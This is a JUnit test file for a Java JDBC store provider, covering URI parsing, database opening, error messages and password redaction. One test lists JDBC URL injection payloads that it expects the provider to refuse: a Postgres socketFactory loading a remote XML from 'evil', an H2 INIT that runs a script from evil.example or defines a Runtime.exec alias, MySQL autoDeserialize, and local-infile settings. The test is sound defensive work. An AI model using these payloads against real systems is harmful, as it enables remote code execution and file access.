package dev.stepwise.store.jdbc;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.stepwise.store.Expect;
import dev.stepwise.store.StoreKey;
import dev.stepwise.store.StoreProviders;
import dev.stepwise.store.StoreUnavailableException;
import dev.stepwise.store.VersionedStore;
import dev.stepwise.store.Write;
import dev.stepwise.store.WriteResult;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.Statement;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class JdbcStoreProviderTest {

    private final JdbcStoreProvider provider = new JdbcStoreProvider();

    @TempDir
    Path dir;

    static void roundTrip(VersionedStore store) {
        StoreKey key = StoreKey.session("provider");
        assertInstanceOf(
                WriteResult.Written.class,
                store.write(Write.of(key, new byte[] {7}, Expect.absent(), Duration.ofHours(1))));
        assertArrayEquals(new byte[] {7}, store.read(key).orElseThrow().value());
    }

    @Test
    void acceptsTheJdbcSchemesOnly() {
        for (String uri : List.of(
                "sqlite:stepwise.db",
                "jdbc:sqlite:/tmp/x.db",
                "jdbc:postgresql://h/db",
                "jdbc:mariadb://h/db",
                "jdbc:mysql://h/db",
                "jdbc:h2:mem:x",
                "JDBC:H2:mem:x")) {
            assertTrue(provider.accepts(uri), uri);
        }
        for (String uri :
                List.of("memory:", "file:/tmp", "redis://h", "jdbc:oracle:thin:@h", "sqlite", "postgresql://h/db")) {
            assertFalse(provider.accepts(uri), uri);
        }
    }

    @Test
    void opensSqliteFilesThroughTheServiceLoader() {
        try (VersionedStore store = StoreProviders.open("sqlite:" + dir.resolve("a.db"))) {
            assertInstanceOf(JdbcStore.class, store);
            roundTrip(store);
        }
        try (VersionedStore store = StoreProviders.open("jdbc:sqlite:" + dir.resolve("b.db"))) {
            roundTrip(store);
        }
    }

    @Test
    void opensH2() throws Exception {
        String url = "jdbc:h2:mem:provider_test;DB_CLOSE_DELAY=-1";
        try (VersionedStore store = StoreProviders.open(url)) {
            roundTrip(store);
        } finally {
            try (Connection c = DriverManager.getConnection(url);
                    Statement s = c.createStatement()) {
                s.execute("SHUTDOWN");
            }
        }
    }

    @Test
    void opensMysqlUrlsWithTheMariaDbDriver() throws Exception {
        TestDatabase.MARIADB.assumeAvailable();
        Tables tables = Tables.withPrefix(Tables.DEFAULT_PREFIX);
        boolean existed;
        try (Connection c = TestDatabase.MARIADB.connect(null, null);
                Statement s = c.createStatement();
                ResultSet rs = s.executeQuery("SHOW TABLES LIKE '" + tables.schemaVersion() + "'")) {
            existed = rs.next();
        }
        try (VersionedStore store = provider.open("jdbc:mysql://127.0.0.1:3306/test?user=root")) {
            assertEquals(JdbcDialect.MARIADB, ((JdbcStore) store).dialect());
            assertEquals(
                    new dev.stepwise.store.DeleteResult.Deleted(false),
                    store.delete(StoreKey.session("none"), Expect.any()));
        } finally {
            if (!existed) {
                try (Connection c = TestDatabase.MARIADB.connect(null, null);
                        Statement s = c.createStatement()) {
                    s.execute("DROP TABLE IF EXISTS " + tables.records() + ", " + tables.items() + ", "
                            + tables.schemaVersion());
                }
            }
        }
    }

    @Test
    void badUrisNameTheProblem() {
        assertMessage("sqlite:", "names no file");
        assertMessage("jdbc:sqlite::memory:", "in-memory SQLite");
        assertMessage("jdbc:sqlite:x.db?journal_mode=DELETE", "has parameters");
        assertMessage("jdbc:postgresql:test", "has no host");
        assertMessage("jdbc:mariadb:test?password=hunter2", "has no host");
        IllegalArgumentException e =
                assertThrows(IllegalArgumentException.class, () -> StoreProviders.open("jdbc:oracle:thin:@h"));
        assertTrue(e.getMessage().contains("jdbc:postgresql://HOST"), e.getMessage());
    }

    @Test
    void anUnreachableServerIsUnavailableAndThePasswordIsNeverShown() {
        StoreUnavailableException e = assertThrows(
                StoreUnavailableException.class,
                () -> provider.open(
                        "jdbc:postgresql://127.0.0.1:1/test?user=postgres&password=hunter2&connectTimeout=1"));
        StringWriter trace = new StringWriter();
        e.printStackTrace(new PrintWriter(trace));
        assertFalse(trace.toString().contains("hunter2"), trace.toString());
        assertTrue(e.getMessage().contains("PostgreSQL is unavailable"), e.getMessage());
    }

    @Test
    void aMissingPostgresDatabaseFailsAtOnceSayingItDoesNotExist() {
        TestDatabase.POSTGRES.assumeAvailable();
        IllegalArgumentException e = assertThrows(
                IllegalArgumentException.class,
                () -> provider.open(
                        "jdbc:postgresql://127.0.0.1:5432/no_such_db_stepwise?user=postgres&password=hunter2"));
        assertTrue(e.getMessage().contains("does not exist"), e.getMessage());
        assertTrue(e.getMessage().contains("no_such_db_stepwise"), e.getMessage());
        assertFalse(e.getMessage().contains("hunter2"), e.getMessage());
        assertFalse(e.getMessage().contains("timed out"), e.getMessage());
    }

    @Test
    void aMissingMariaDbDatabaseFailsAtOnceSayingItDoesNotExist() {
        TestDatabase.MARIADB.assumeAvailable();
        IllegalArgumentException e = assertThrows(
                IllegalArgumentException.class,
                () -> provider.open("jdbc:mariadb://127.0.0.1:3306/no_such_db_stepwise?user=root"));
        assertTrue(e.getMessage().contains("does not exist"), e.getMessage());
        assertTrue(e.getMessage().contains("no_such_db_stepwise"), e.getMessage());
    }

    private void assertMessage(String uri, String expected) {
        IllegalArgumentException e = assertThrows(IllegalArgumentException.class, () -> provider.open(uri), uri);
        assertTrue(e.getMessage().contains(expected), e.getMessage());
        assertFalse(e.getMessage().contains("hunter2"), e.getMessage());
    }

    @Test
    void refusesUrlSettingsThatLoadClassesReadFilesOrRunSql() {
        for (String uri : List.of(
                "jdbc:postgresql://127.0.0.1:5432/test?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil/x.xml",
                "jdbc:postgresql://127.0.0.1:5432/test?user=postgres&sslfactory=x.Y",
                "jdbc:postgresql://127.0.0.1:5432/test?loggerFile=/etc/cron.d/x",
                "jdbc:postgresql://127.0.0.1:5432/test?SOCKETFACTORY=x",
                "jdbc:postgresql://127.0.0.1:5432/test?%73ocketFactory=x",
                "jdbc:mariadb://127.0.0.1:3306/test?allowLocalInfile=true",
                "jdbc:mysql://127.0.0.1:3306/test?autoDeserialize=true&queryInterceptors=x.Y",
                "jdbc:mysql://(host=127.0.0.1,port=3306,autoDeserialize=true)/test",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
                "jdbc:h2:mem:x;init=CREATE ALIAS EXEC AS 'void e(String c) throws Exception {Runtime.getRuntime().exec(c);}'",
                "jdbc:h2:mem:x;DB_CLOSE_DELAY=-1;INIT=CREATE TRIGGER T BEFORE SELECT ON INFORMATION_SCHEMA.TABLES AS 'x'",
                "jdbc:h2:mem:x;DB_CLOSE_DELAY=-1\\;INIT=RUNSCRIPT FROM 'x'")) {
            IllegalArgumentException e =
                    assertThrows(IllegalArgumentException.class, () -> StoreProviders.open(uri), uri);
            assertTrue(e.getMessage().contains("refused"), e.getMessage());
        }
        IllegalArgumentException e = assertThrows(
                IllegalArgumentException.class,
                () -> StoreProviders.open("jdbc:postgresql://127.0.0.1:5432/test?user=u&password=s3cret&sslfactory=x"));
        assertFalse(e.getMessage().contains("s3cret"), e.getMessage());
    }

    @Test
    void aSqliteUriOnAFileThatIsNotADatabaseIsRefusedAndTheFileLeftAlone() throws Exception {
        Path text = dir.resolve("passwd");
        Files.writeString(text, "root:x:0:0:root:/root:/bin/bash\n");
        IllegalArgumentException e =
                assertThrows(IllegalArgumentException.class, () -> StoreProviders.open("sqlite:" + text));
        assertTrue(e.getMessage().contains("not an SQLite database"), e.getMessage());
        assertEquals("root:x:0:0:root:/root:/bin/bash\n", Files.readString(text));
        assertThrows(IllegalArgumentException.class, () -> StoreProviders.open("sqlite:" + dir));
        Files.createFile(dir.resolve("empty.db"));
        try (VersionedStore store = StoreProviders.open("sqlite:" + dir.resolve("empty.db"))) {
            roundTrip(store); // an empty file is a new database
        }
    }
}
